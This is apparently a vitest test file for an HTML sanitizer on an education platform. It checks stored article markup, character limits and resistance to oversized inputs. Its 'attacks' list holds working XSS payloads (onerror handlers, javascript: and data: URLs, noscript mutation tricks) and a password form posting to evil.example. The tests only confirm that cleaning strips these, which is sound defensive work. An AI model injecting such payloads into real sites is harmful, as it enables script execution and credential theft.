import { articleCalls } from '@zhixing/contract/leaves/article/calls.ts'
import sanitize from 'sanitize-html'
import { describe, expect, test } from 'vitest'
import { useTestServer } from '../../test/test-server.ts'
import { steadyTurn, turnMost } from '../../test/turns.ts'
import { buildTeacher } from '../features/people/organisation/organisation.factory.ts'
import { byAllowedList, isAsCleaned } from './allowed.ts'
import { cleanAll, shownHtml } from './clean.ts'
import { markupLimits, markupMessages } from './measure.ts'
import { plainText } from './plain-text.ts'

const server = useTestServer()

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img data-file-id="1" src="javascript:alert(1)" onerror="alert(1)">',
  '<svg onload=alert(1)><circle/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<p style="background:url(javascript:alert(1));text-align:center">x</p>',
  '<p style="position:fixed;top:0">x</p>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<p onclick="alert(1)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<base href="https://evil.example"><link rel="stylesheet" href="x"><meta http-equiv="refresh" content="0">',
  '<span data-formula="x" id="root" class="ant-modal">x</span>',
]

describe('what may not be stored', () => {
  test.each(attacks)('%s', (html) => {
    const clean = byAllowedList(html)
    expect(clean).not.toMatch(/<(script|svg|math|iframe|object|embed|style|form|input|template|base|link|meta)/i)
    expect(clean).not.toMatch(/\son\w+=|javascript:|data:|position|url\(|evil\.example|\sid="|class="/i)
    expect(byAllowedList(clean)).toBe(clean)
    expect(isAsCleaned(clean)).toBe(true)
    expect(shownHtml(html)).toBe(clean)
  })

  test('what the editor makes stays as it is', () => {
    const html =
      '<h2>标题</h2><p style="text-align:center">正文<strong>重点</strong></p><ul><li>一</li></ul><table><tbody><tr><td colspan="2">格</td></tr></tbody></table><img data-file-id="7" alt="图" width="100">'
    expect(byAllowedList(html)).toContain('<h2>标题</h2>')
    expect(byAllowedList(html)).toContain('<td colspan="2">格</td>')
    expect(byAllowedList(html)).toContain('data-file-id="7"')
  })

  test('a link opens elsewhere and cannot reach back', () => {
    expect(byAllowedList('<a href="https://example.cn">x</a>')).toBe(
      '<a href="https://example.cn" target="_blank" rel="noopener nofollow">x</a>',
    )
  })
})

describe('what is shown as it is stored', () => {
  test.each([
    '<p style="text-align:center">甲 &amp; 乙<br /></p><hr />',
    '<h2>标题</h2><ul><li>一</li></ul><table><tbody><tr><td colspan="2" rowspan="3">格</td></tr></tbody></table>',
    '<a href="https://a.cn/?a=1&amp;b=2" target="_blank" rel="noopener nofollow">x</a>',
    '<img data-file-id="7" alt="图" width="100" height="20" /><span data-formula="x^2">x</span>',
    '<pre><code class="language-js">a</code></pre>',
  ])('%s', (html) => {
    expect(isAsCleaned(html)).toBe(true)
    expect(byAllowedList(html)).toBe(html)
  })

  test.each([
    '<p onclick="x">',
    '<P>',
    '<p >',
    '<script>',
    '<a href="javascript:x" target="_blank" rel="noopener nofollow">',
    '<a href="https://a.cn">',
    '<img src="x" />',
    '<img data-file-id="7" alt="" onerror="x" />',
    '<span data-formula="">" onclick="x">',
    'a > b',
    '<p',
  ])('but never %s', (html) => {
    expect(isAsCleaned(html)).toBe(false)
  })
})

describe('counting', () => {
  test('characters are counted without markup and entities', () => {
    expect(plainText('<p>甲&nbsp;乙<br>&amp;丙</p>').replace(/\s/g, '')).toBe('甲乙丙')
  })

  test('richText.required: a text of markup only is refused with 请输入内容', async () => {
    const teacher = await buildTeacher(server)
    const empty = await server.call(articleCalls.create, { title: '空', body: '<p> <br></p>' }, { as: teacher })
    expect(empty.errors).toEqual([{ field: 'body', message: '请输入内容' }])
  })

  test('richText.length: the characters count, not the markup', async () => {
    const teacher = await buildTeacher(server)
    const fits = `<p>${'<b>字</b>'.repeat(50_000)}</p>`
    expect((await server.call(articleCalls.create, { title: '长', body: fits }, { as: teacher })).code).toBe(20000)
    const tooLong = await server.call(
      articleCalls.create,
      { title: '长', body: `<p>${'字'.repeat(50_001)}</p>` },
      { as: teacher },
    )
    expect(tooLong.errors).toEqual([{ field: 'body', message: '正文限制50000个字符以内' }])
  })
})

describe('hostile markup', () => {
  const teacher = () => buildTeacher(server)
  const { depthMost, tagsMost, charactersMost } = markupLimits

  test.each([
    ['<b>', markupMessages.deep],
    ['<ul><li>', markupMessages.deep],
    ['<div>', markupMessages.deep],
    ['<b></i>', markupMessages.deep],
    ['<b></b>', markupMessages.many],
  ])('900 KB of %s are refused at their field, and hold nobody up', async (pattern, message) => {
    const as = await teacher()
    const body = pattern.repeat(tagsMost + 1)
    const send = () => server.call(articleCalls.create, { title: '长', body }, { as })
    expect(await steadyTurn(send)).toBeLessThan(turnMost)
    expect((await send()).errors).toEqual([{ field: 'body', message }])
  })

  test.each([
    '<img src=x>x',
    '<a href="https://a.cn">',
    '<p style="color:red">字</p>',
    '<',
    '&',
    '<!--',
    '<p a=',
    '">',
  ])('900 KB of %s hold nobody up, whatever becomes of them', async (pattern) => {
    const as = await teacher()
    const body = pattern.repeat(900_000 / pattern.length)
    expect(await steadyTurn(() => server.call(articleCalls.create, { title: '长', body }, { as }))).toBeLessThan(
      turnMost,
    )
  })

  test('a text is refused by its field, the others of the same form are named by nothing', async () => {
    const deep = '<b>'.repeat(depthMost + 1)
    const texts = [
      { html: '<p>好</p>', field: 'stem' },
      { html: deep, field: 'options.0.html' },
    ]
    await expect(cleanAll(texts)).rejects.toMatchObject({
      details: { errors: [{ field: 'options.0.html', message: markupMessages.deep }] },
    })
    const long = { html: 'x'.repeat(charactersMost + 1), field: 'analysis' }
    await expect(cleanAll([long])).rejects.toMatchObject({ details: { errors: [{ field: 'analysis' }] } })
  })

  test('what is cleaned beside the event loop is what is cleaned on it', async () => {
    const html = attacks.join('<p>字</p>').repeat(20)
    expect(await cleanAll([{ html, field: 'body' }])).toMatchObject([{ html: byAllowedList(html) }])
  })

  test.each(attacks)('the text of %s is what cleaning leaves of it', (html) => {
    const before = sanitize(html, { allowedTags: [], allowedAttributes: {} })
    expect(plainText(html)).toBe(before.replace(/&(amp|lt|gt|quot|#39|nbsp);/g, ' ').trim())
  })
})
